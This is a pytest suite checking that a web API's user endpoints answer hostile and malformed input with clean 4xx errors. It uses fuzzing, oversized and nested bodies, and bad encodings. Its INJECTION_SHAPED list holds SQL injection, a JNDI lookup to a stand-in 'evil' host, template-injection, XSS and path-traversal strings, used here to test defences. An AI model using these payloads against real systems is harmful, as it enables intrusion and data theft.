"""Hostile and malformed input: always a 4xx problem+json, never a 5xx, never a crash.

Schemathesis fuzzes every operation in the app's own OpenAPI document with a valid admin token
(bounded examples and time); the hand-written cases below cover what a schema cannot describe.
"""

from __future__ import annotations

import itertools
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree

import httpx
import pytest

from tests.reliability.served import ServedApp, bearer, create_user, user_password

USERS = "/api/v1/users"
FUZZERS = itertools.count()
TEN_MEGABYTES = 10 * 1024 * 1024
INJECTION_SHAPED = [
    "' OR '1'='1",
    "'; DROP TABLE users; --",
    '" OR 1=1 --',
    "%' UNION SELECT password FROM users --",
    "${jndi:ldap://evil/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\\x00",
]


@pytest.fixture(scope="module")
def token(served: ServedApp) -> str:
    return served.token()


def assert_client_error(reply: httpx.Response, *statuses: int) -> None:
    expected = statuses or tuple(range(400, 500))
    assert reply.status_code in expected, (reply.status_code, reply.text[:500])
    assert reply.headers["content-type"].startswith("application/problem+json"), reply.headers
    problem = reply.json()
    assert problem["status"] == reply.status_code
    assert {"type", "title", "status"} <= problem.keys()
    assert "Traceback" not in reply.text


@pytest.fixture
def fuzzer_token(served: ServedApp, token: str) -> str:
    """An admin of the fuzzer's own: it may delete or deactivate itself and lock only itself out."""
    name = f"fuzzer{next(FUZZERS)}"
    create_user(served, token, name, role="admin")
    return served.token(f"{name}@example.com", user_password(name))


DESTRUCTIVE = ("--include-method", "DELETE", "--include-path-regex", "/deactivate$")
NON_DESTRUCTIVE = ("--exclude-method", "DELETE", "--exclude-path-regex", "/deactivate$")


def fuzz(served: ServedApp, token: str, report_dir: Path, checks: str, *options: str) -> str:
    """Run schemathesis against the served app; the failure report, or "" when it passes."""
    command = [
        str(Path(sys.executable).with_name("schemathesis")), "run",
        f"{served.base_url}/openapi.json",
        "--header", f"Authorization: Bearer {token}", "--checks", checks,
        "--seed", "9", "--request-timeout", "30", "--workers", "2",
        "--exclude-path", "/api/v1/auth/token",  # password hashing: slow, tested by hand instead
        "--report", "junit", "--report-dir", str(report_dir), *options,
    ]  # fmt: skip
    completed = subprocess.run(command, capture_output=True, text=True, timeout=240, check=False)
    if completed.returncode == 0:
        return ""
    output = completed.stdout[-12000:] + completed.stderr[-4000:]
    tested, failed = junit_counts(report_dir)
    # Schemathesis' own crashes (its junit "errors") say nothing about the app; a failed check
    # does, and so does a run that tested no operation at all.
    if failed or not tested:
        return output
    print(f"schemathesis exited {completed.returncode} with no failed check:\n{output}")
    return ""


def junit_counts(report_dir: Path) -> tuple[int, int]:
    """Operations tested and checks failed, from schemathesis' junit report."""
    reports = sorted(report_dir.glob("junit-*.xml"))
    if not reports:
        return 0, 0
    suites = ElementTree.parse(reports[-1]).getroot()
    return int(suites.get("tests", 0)), int(suites.get("failures", 0))


CONFORMANCE = (
    "not_a_server_error,content_type_conformance,response_headers_conformance,"
    "response_schema_conformance"
)


def test_fuzzing_every_operation_finds_no_server_error_and_no_malformed_response(
    served: ServedApp, fuzzer_token: str, tmp_path: Path
) -> None:
    # Deleting and deactivating are fuzzed on their own (below): the fuzzer reuses ids it has
    # seen, its own included, and would otherwise lock itself out early in the run.
    options = ("--phases", "examples,coverage,fuzzing", "--max-examples", "25", "--max-time", "45")
    report = fuzz(served, fuzzer_token, tmp_path, CONFORMANCE, *options, *NON_DESTRUCTIVE)
    assert not report, report


def test_fuzzing_delete_and_deactivate_finds_no_server_error_and_no_malformed_response(
    served: ServedApp, fuzzer_token: str, tmp_path: Path
) -> None:
    options = ("--phases", "coverage,fuzzing", "--max-examples", "25", "--max-time", "15")
    report = fuzz(served, fuzzer_token, tmp_path, CONFORMANCE, *options, *DESTRUCTIVE)
    assert not report, report


def test_fuzzing_finds_only_the_statuses_the_openapi_document_lists(
    served: ServedApp, fuzzer_token: str, tmp_path: Path
) -> None:
    options = ("--phases", "fuzzing", "--max-examples", "30", "--max-time", "20")
    checks = "status_code_conformance"
    report = fuzz(served, fuzzer_token, tmp_path, checks, *options, *NON_DESTRUCTIVE)
    assert not report, report


def test_a_ten_megabyte_body_is_refused_with_413_before_it_is_parsed(
    served: ServedApp, token: str
) -> None:
    body = b'{"full_name": "' + b"x" * TEN_MEGABYTES + b'"}'
    headers = {**bearer(token), "Content-Type": "application/json"}
    reply = httpx.post(f"{served.base_url}{USERS}", content=body, headers=headers, timeout=60)
    assert_client_error(reply, 413)


def test_deeply_nested_json_is_refused_with_a_client_error(served: ServedApp, token: str) -> None:
    for depth in (100, 10_000, 100_000):
        body = "[" * depth + "]" * depth
        headers = {**bearer(token), "Content-Type": "application/json"}
        reply = httpx.post(f"{served.base_url}{USERS}", content=body, headers=headers, timeout=60)
        assert_client_error(reply)


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/plain", b'{"email": "a@example.com"}'),
        ("application/xml", b"<user><email>a@example.com</email></user>"),
        ("application/x-www-form-urlencoded", b"email=a%40example.com&username=a"),
        ("application/json", b'{"email": "a@example.com", "username": '),
        ("application/json", b'{"email": "\xff\xfe\xfa", "username": "x", "full_name": "x"}'),
        ("application/json; charset=latin-1", b'{"email": "caf\xe9@example.com"}'),
        ("application/json", b""),
        ("application/json", b"null"),
        ("application/json", b"[]"),
        ("application/json", b'"a string"'),
    ],
    ids=[
        "text",
        "xml",
        "form",
        "truncated",
        "invalid-utf8",
        "latin1",
        "empty",
        "null",
        "list",
        "string",
    ],
)
def test_a_body_of_the_wrong_type_or_encoding_is_refused_with_a_client_error(
    served: ServedApp, token: str, content_type: str, body: bytes
) -> None:
    headers = {**bearer(token), "Content-Type": content_type}
    reply = httpx.post(f"{served.base_url}{USERS}", content=body, headers=headers, timeout=30)
    assert_client_error(reply)


def test_invalid_utf8_in_the_query_string_and_path_is_refused_with_a_client_error(
    served: ServedApp, token: str
) -> None:
    with httpx.Client(base_url=served.base_url, headers=bearer(token), timeout=30) as client:
        assert_client_error(client.get(f"{USERS}/%ff%fe"))
        reply = client.get(f"{USERS}?email_contains=%ff%fe&page=%c0")
        assert_client_error(reply)


@pytest.mark.parametrize("text", INJECTION_SHAPED)
def test_injection_shaped_strings_are_refused_where_validated_and_inert_where_searched(
    served: ServedApp, token: str, text: str
) -> None:
    with httpx.Client(base_url=served.base_url, headers=bearer(token), timeout=30) as client:
        user = {"email": text, "username": text, "full_name": "x", "password": "long-password-1"}
        assert_client_error(client.post(USERS, json=user))
        assert_client_error(client.get(f"{USERS}/{text}"))
        assert_client_error(client.get(USERS, params={"role": text}))
        assert_client_error(client.get(USERS, params={"page": text}))
        # A free-text filter may contain anything: it must match literally, so nothing here.
        searched = client.get(USERS, params={"email_contains": text})
        assert searched.status_code == 200, searched.text
        assert searched.json()["items"] == []


def test_a_nul_character_in_a_string_is_refused_with_422(served: ServedApp, token: str) -> None:
    with httpx.Client(base_url=served.base_url, headers=bearer(token), timeout=30) as client:
        user = {"email": "nul@example.com", "username": "nul\u0000", "full_name": "x",
                "password": "long-password-1"}  # fmt: skip
        assert_client_error(client.post(USERS, json=user), 422)
        assert_client_error(client.get(USERS, params={"email_contains": "a\u0000b"}), 422)


def test_a_valid_request_still_succeeds_after_the_hostile_ones(
    served: ServedApp, token: str
) -> None:
    user_id = create_user(served, token, "survivor")
    reply = httpx.get(f"{served.base_url}{USERS}/{user_id}", headers=bearer(token), timeout=30)
    assert reply.status_code == 200
    ready = httpx.get(f"{served.base_url}/health/ready", timeout=30)
    assert ready.status_code == 200
